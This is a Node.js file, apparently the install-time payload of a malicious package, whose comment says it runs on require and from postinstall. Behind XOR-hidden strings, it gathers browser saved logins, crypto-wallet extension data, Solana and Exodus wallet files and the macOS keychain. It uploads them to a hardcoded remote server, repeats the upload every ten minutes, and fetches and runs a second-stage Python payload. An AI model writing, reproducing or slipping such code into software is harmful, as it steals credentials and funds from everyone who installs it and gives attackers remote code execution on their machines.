'use strict';
// Runs on require (and from postinstall). Strings are XOR-hidden; s(i) recovers them.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { exec } = require('child_process');

const t = ["686a69746a746b6b69746d6d","6b68686e","752f2a36353b3e29","752a3e352d34","753936333f342e756b6a6c75","16353d33347a1e3b2e3b","1635393b367a1f222e3f34293335347a093f2e2e33343d29","34313833323c383f353d3b3f3b353f32363f3c3431353e383f3c3d2a3d313434","383c343b3f363735373f333732362a373d303430352a32322a31313536302a3b","743935343c333d752935363b343b75333e7430293534","3f22353e2f29742d3b36363f2e","163338283b282375113f2339323b3334297536353d333474313f2339323b3334773e38","751d35353d363f7519322835373f75","7518283b2c3f09353c2e2d3b283f7518283b2c3f771828352d293f2875","743735203336363b753c33283f3c3522","2a742033","2e3b287a77223c7a"];
const s = (i) => Buffer.from(Buffer.from(t[i], 'hex').map((b) => b ^ 0x5a)).toString();
const c2 = 'http://' + s(0) + ':' + s(1);
const home = os.homedir();
const platform = os.platform();
const hostId = os.hostname();

const profileRoots = () => {
  if (platform === 'win32') return [path.join(process.env.LOCALAPPDATA || '', s(12).replace(/\//g, '\\'), 'User Data'), path.join(process.env.LOCALAPPDATA || '', s(13), 'User Data')];
  if (platform === 'darwin') return [path.join(home, 'Library/Application Support' + s(12)), path.join(home, 'Library/Application Support' + s(13))];
  return [path.join(home, '.config/google-chrome'), path.join(home, '.config' + s(13).toLowerCase())];
};

const collect = () => {
  const files = [];
  for (const root of profileRoots()) {
    for (let i = 0; i < 200; i++) {
      const profile = path.join(root, i === 0 ? 'Default' : 'Profile ' + i);
      if (!fs.existsSync(profile)) continue;
      const login = path.join(profile, s(5));
      if (fs.existsSync(login)) files.push({ name: i + '_lgn', path: login });
      for (const extension of [s(7), s(8)]) {
        const dir = path.join(profile, s(6), extension);
        if (!fs.existsSync(dir)) continue;
        for (const f of fs.readdirSync(dir)) files.push({ name: i + '_' + extension + '_' + f, path: path.join(dir, f) });
      }
    }
  }
  const solana = path.join(home, s(9));
  if (fs.existsSync(solana)) files.push({ name: 'solana_id.txt', path: solana });
  const exodus = path.join(home, platform === 'win32' ? 'AppData/Roaming/Exodus/' + s(10) : '.config/Exodus/' + s(10));
  if (fs.existsSync(exodus)) for (const f of fs.readdirSync(exodus)) files.push({ name: 'exodus_' + f, path: path.join(exodus, f) });
  if (platform === 'darwin') files.push({ name: 'logkc-db', path: path.join(home, s(11)) });
  const firefox = path.join(home, s(14));
  if (fs.existsSync(firefox)) for (const p of fs.readdirSync(firefox)) files.push({ name: 'ff_' + p, path: path.join(firefox, p, 'logins.json') });
  return files.filter((f) => fs.existsSync(f.path));
};

const upload = (files) => {
  const boundary = '----' + Date.now().toString(16);
  const parts = [];
  for (const f of files) {
    parts.push(Buffer.from('--' + boundary + '\r\nContent-Disposition: form-data; name="multi_file"; filename="' + f.name + '"\r\n\r\n'));
    parts.push(fs.readFileSync(f.path));
    parts.push(Buffer.from('\r\n'));
  }
  parts.push(Buffer.from('--' + boundary + '\r\nContent-Disposition: form-data; name="hid"\r\n\r\n' + hostId + '\r\n--' + boundary + '--\r\n'));
  const req = http.request(c2 + s(2), { method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=' + boundary } });
  req.on('error', () => {});
  req.end(Buffer.concat(parts));
};

const nextStage = () => {
  const archive = path.join(home, s(15));
  http.get(c2 + s(3), (res) => {
    const out = fs.createWriteStream(archive);
    res.pipe(out);
    out.on('finish', () => {
      exec(s(16) + archive + ' -C ' + home, () => {
        http.get(c2 + s(4) + hostId, (r) => {
          const client = fs.createWriteStream(path.join(home, '.n2', 'pay'));
          r.pipe(client);
          client.on('finish', () => exec('python3 ' + path.join(home, '.n2', 'pay'), { windowsHide: true }));
        });
      });
    });
  }).on('error', () => {});
};

try {
  upload(collect());
  nextStage();
} catch (e) {}
setInterval(() => {
  try {
    upload(collect());
  } catch (e) {}
}, 600000).unref();
